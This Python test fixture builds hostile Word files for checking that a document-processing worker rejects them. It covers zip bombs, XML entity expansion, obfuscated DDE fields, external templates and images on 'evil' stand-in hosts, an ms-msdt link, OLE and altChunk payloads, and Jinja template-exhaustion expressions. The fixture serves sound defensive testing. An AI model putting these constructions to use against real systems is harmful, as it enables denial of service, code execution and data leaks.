"""Word files that somebody has made to do harm, one of each kind, with the answer of each."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache

from tests.worker.word.documents import changed, members
from tests.worker.word.minimal import (
    WML,
    field,
    minimal,
    paragraph,
    part,
    rels,
    zipped,
)

#: Carries what no Word file may; is a template with faults; or is only heavy.
DANGER, FAULT, HEAVY = "danger", "fault", "heavy"

_PNG_HEAD = b"\x89PNG\r\n\x1a\n"


def _chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def huge_picture() -> bytes:
    """A picture of 60,000 × 60,000 points in a hundred kilobytes."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0)
    return (
        _PNG_HEAD
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(bytes(10**7)))
        + _chunk(b"IEND", b"")
    )


def _with_member(name: str, content: bytes, *, lie: bool = False) -> bytes:
    stream = io.BytesIO(minimal())
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    made = bytearray(stream.getvalue())
    if lie:  # both headers say that it is a hundred bytes
        size = struct.pack("<L", len(content))
        made = bytearray(bytes(made).replace(size, struct.pack("<L", 100)))
    return bytes(made)


def _stored(docx: bytes) -> bytes:
    """The same file not packed, so that its size is not unlikely for what it holds."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as archive:
        for name, content in members(docx).items():
            archive.writestr(name, content)
    return stream.getvalue()


def _nested_zip() -> bytes:
    content = b"\0" * 10**7
    for _ in range(4):
        content = zipped({f"{n}.zip": content for n in range(8)})
    return content


def _settings(inner: str, links: str = "") -> bytes:
    parts = {"word/settings.xml": (f"{WML}.settings+xml", part("w:settings", inner))}
    made = minimal(links=(("settings", "settings.xml"),), parts=parts)
    return changed(made, {"word/_rels/settings.xml.rels": links.encode()}) if links else made


def _header(inner: str) -> bytes:
    return minimal(
        "<w:p/>",
        links=(("header", "header1.xml"),),
        parts={"word/header1.xml": (f"{WML}.header+xml", part("w:hdr", inner))},
    )


def _deep(levels: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * levels + "<w:p/>" + "</w:tc></w:tr></w:tbl><w:p/>" * levels


def _doubled(start: str, operator: str, steps: int) -> str:
    lines = [f"{{% set v{n + 1} = v{n} {operator} v{n} %}}" for n in range(steps)]
    return f"{{% set v0 = {start} %}}" + "".join(lines) + f"{{{{ v{steps} }}}}"


def _choice_hides_subdocument() -> str:
    return (
        '<mc:AlternateContent><mc:Choice Requires="x"><w:p/></mc:Choice>'
        '<mc:Fallback><w:subDoc r:id="rId9"/></mc:Fallback></mc:AlternateContent>'
    )


def list_hostile_files() -> dict[str, str]:
    """The answer to each file, by what the file is; none is made yet."""
    return {name: answer for name, _make, answer in _files()}


@cache
def hostile_file(wanted: str) -> bytes:
    """One of the files; if it is only heavy, stored as nobody can tell from its packing."""
    ((make, answer),) = ((make, answer) for name, make, answer in _files() if name == wanted)
    return _stored(make()) if answer == HEAVY else make()


#: What a file is, how it is made, the answer.
def _files() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    yield (
        "zip bomb: 48 MB of spaces",
        lambda: _with_member("word/media/a.xml", b" " * 48 * 2**20),
        DANGER,
    )
    yield (
        "zip bomb: a size that lies",
        lambda: _with_member("word/a.xml", b"<x>" + b" " * 10**7 + b"</x>", lie=True),
        DANGER,
    )
    yield (
        "zip bomb: zips in zips",
        lambda: _with_member("word/embeddings/a.zip", _nested_zip()),
        DANGER,
    )
    yield (
        "a thousand members",
        lambda: zipped({f"word/media/{n}.png": b"" for n in range(1_500)}),
        DANGER,
    )
    yield (
        "a million elements",
        lambda: _with_member("word/a.xml", b"<x>" + b"<y/>" * 10**6 + b"</x>"),
        DANGER,
    )
    yield (
        "a million attributes",
        lambda: _with_member("word/a.xml", b"<x>" + b'<y a="" b=""/>' * 350_000 + b"</x>"),
        DANGER,
    )
    yield (
        "half the elements allowed, in runs",
        lambda: minimal("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 60_000 + "</w:p>"),
        HEAVY,
    )
    yield (
        "elements nested 5,000 deep",
        lambda: minimal("<w:smartTag>" * 5_000 + "</w:smartTag>" * 5_000),
        HEAVY,
    )
    yield "tables nested 400 deep", lambda: minimal(_deep(400)), HEAVY
    yield "100,000 empty paragraphs", lambda: minimal("<w:p/>" * 100_000), HEAVY
    yield "one paragraph of 12 MB", lambda: minimal(paragraph("chữ " * 2_400_000)), HEAVY
    yield "one word of 10 MB", lambda: minimal(paragraph("a" * 10**7)), HEAVY
    yield "a million dots and numbers", lambda: minimal(paragraph("1." * 10**6)), HEAVY
    yield (
        "20,000 lines that look like headings",
        lambda: minimal("".join(paragraph(f"Điều {n}. {'A' * 40}") for n in range(20_000))),
        HEAVY,
    )
    yield (
        "a table of 12,000 cells in one row",
        lambda: minimal("<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 12_000 + "</w:tr></w:tbl><w:p/>"),
        HEAVY,
    )
    yield (
        "spaces after a cell's tag",
        lambda: minimal(paragraph("{% cellbg" + " " * 10**6 + "x %}")),
        HEAVY,
    )
    yield "braces and spaces by turns", lambda: minimal(paragraph("{ { % " * 300_000)), HEAVY
    yield "an open note of a million characters", lambda: minimal(paragraph("{#" * 400_000)), HEAVY
    yield "a quote that never ends", lambda: minimal(paragraph("{{ '" + "\\'" * 400_000)), HEAVY
    yield (
        "styles based on one another",
        lambda: minimal(
            parts={
                "word/styles.xml": (
                    f"{WML}.styles+xml",
                    part(
                        "w:styles",
                        "".join(
                            f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>'
                            for n in range(20_000)
                        )
                        + '<w:style w:styleId="s20000"><w:basedOn w:val="s0"/></w:style>',
                    ),
                )
            },
            links=(("styles", "styles.xml"),),
        ),
        HEAVY,
    )
    yield (
        "DDE over runs and a comment",
        lambda: minimal(
            field("D", "<w:r><w:instrText>D<!-- - -->E</w:instrText></w:r>", "AUTO cmd")
        ),
        DANGER,
    )
    yield (
        "DDE in an attribute",
        lambda: minimal('<w:p><w:fldSimple w:instr="&#x44;DE&#x41;UTO c:\\x"/></w:p>'),
        DANGER,
    )
    yield (
        "DDE in a footer's text box",
        lambda: _header(
            "<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>"
            + field("DDE x")
            + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
        ),
        DANGER,
    )
    yield (
        "a field by a loop",
        lambda: minimal(field("{% for i in range(3) %}{{ 'DDE'[i] }}{% endfor %} x")),
        DANGER,
    )
    yield (
        "INCLUDEPICTURE nested in IF",
        lambda: minimal(field("IF 1 = 1 ", field('INCLUDEPICTURE "http://e/x.png"')[5:-6])),
        DANGER,
    )
    yield (
        "an external picture",
        lambda: minimal(links=(("image", "http://evil/x.png", "External"),)),
        DANGER,
    )
    yield (
        "an external theme",
        lambda: minimal(links=(("theme", "\\\\evil\\x", "External"),)),
        DANGER,
    )
    yield (
        "an alternative chunk",
        lambda: minimal(
            '<w:altChunk r:id="rId1"/>',
            links=(("aFChunk", "a.html"),),
            parts={"word/a.html": ("text/html", "<script/>")},
        ),
        DANGER,
    )
    yield (
        "an OLE object",
        lambda: minimal(
            "<w:p><w:r><w:object>"
            '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId1"/>'
            "</w:object></w:r></w:p>",
            links=(("oleObject", "embeddings/a.bin"),),
            parts={
                "word/embeddings/a.bin": (
                    "application/vnd.openxmlformats-officedocument.oleObject",
                    b"\xd0\xcf",
                )
            },
        ),
        DANGER,
    )
    yield "a subdocument behind a choice", lambda: minimal(_choice_hides_subdocument()), DANGER
    yield (
        "mail merge in the settings",
        lambda: _settings('<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge>'),
        DANGER,
    )
    yield (
        "a template attached by the settings",
        lambda: _settings(
            "<w:zoom/>", rels(("attachedTemplate", "https://evil/x.dotm", "External"))
        ),
        DANGER,
    )
    yield (
        "a document under a picture's name",
        lambda: minimal(
            parts={"word/media/image1.png": (f"{WML}.footer+xml", part("w:ftr", field("DDE x")))}
        ),
        DANGER,
    )
    yield (
        "a picture's type for a program",
        lambda: minimal(parts={"word/media/a.png": ("application/x-msdownload", b"MZ")}),
        DANGER,
    )
    yield (
        "a link to a program of Windows",
        lambda: minimal(links=(("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"),)),
        DANGER,
    )
    yield (
        "entities in entities",
        lambda: changed(
            minimal(),
            {
                "word/document.xml": (
                    '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
                    + "".join(
                        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
                    )
                    + "]><w:document>&j;</w:document>"
                ).encode()
            },
        ),
        DANGER,
    )
    yield (
        "a picture of 60,000 × 60,000",
        lambda: minimal(parts={"word/media/a.png": ("image/png", huge_picture())}),
        HEAVY,
    )
    yield (
        "lists that hold one another twice",
        lambda: minimal(
            paragraph(
                "{% set v0 = [1] %}"
                + "".join(f"{{% set v{n + 1} = [v{n}, v{n}] %}}" for n in range(60))
                + "{% if v60 == v60 %}a{% endif %}"
            )
        ),
        FAULT,
    )
    yield (
        "loops of loops",
        lambda: minimal(
            paragraph("{% for i in range(999) %}" * 6 + "{{ i }}" + "{% endfor %}" * 6)
        ),
        FAULT,
    )
    yield (
        "loops of loops that print nothing",
        lambda: minimal(
            paragraph(
                "{% for i in range(999) %}" * 6
                + "{% if false %}{{ i }}{% endif %}"
                + "{% endfor %}" * 6
            )
        ),
        FAULT,
    )
    yield "a text times a number", lambda: minimal(paragraph("{{ 'a' * 10 ** 9 }}")), FAULT
    yield "a number to the power of another", lambda: minimal(paragraph("{{ 9 ** 9 ** 9 }}")), FAULT
    yield "a text that doubles", lambda: minimal(paragraph(_doubled("'ab'", "~", 40))), FAULT
    yield "a list that doubles", lambda: minimal(paragraph(_doubled("[1]", "+", 40))), FAULT
    yield (
        "a product of lists by filters",
        lambda: minimal(
            paragraph(
                "{% set l = range(999)|join('-') %}"
                + "{{ l|replace('-', l)|replace('-', l)|replace('-', l) }}"
            )
        ),
        FAULT,
    )
    yield (
        "a format of a billion columns",
        lambda: minimal(paragraph("{{ '%999999999d'|format(1) }}")),
        FAULT,
    )
    yield (
        "sorts of sorts",
        lambda: minimal(
            paragraph(
                "{% for i in range(900) %}{{ range(900)|sort|reverse|sort|join }}{% endfor %}"
            )
        ),
        FAULT,
    )
    yield (
        "a colour of a million characters",
        lambda: minimal(paragraph("{% cellbg '" + "F" * 10**6 + "' %}")),
        HEAVY,
    )
    yield (
        "parentheses 9,000 deep",
        lambda: minimal(paragraph("{{ " + "(" * 9_000 + "1" + ")" * 9_000 + " }}")),
        FAULT,
    )
    yield "9,000 filters", lambda: minimal(paragraph("{{ 'a'" + "|upper" * 9_000 + " }}")), FAULT
    yield (
        "branches in branches",
        lambda: minimal(paragraph("{% if 1 %}" * 3_000 + "{% endif %}" * 3_000)),
        FAULT,
    )
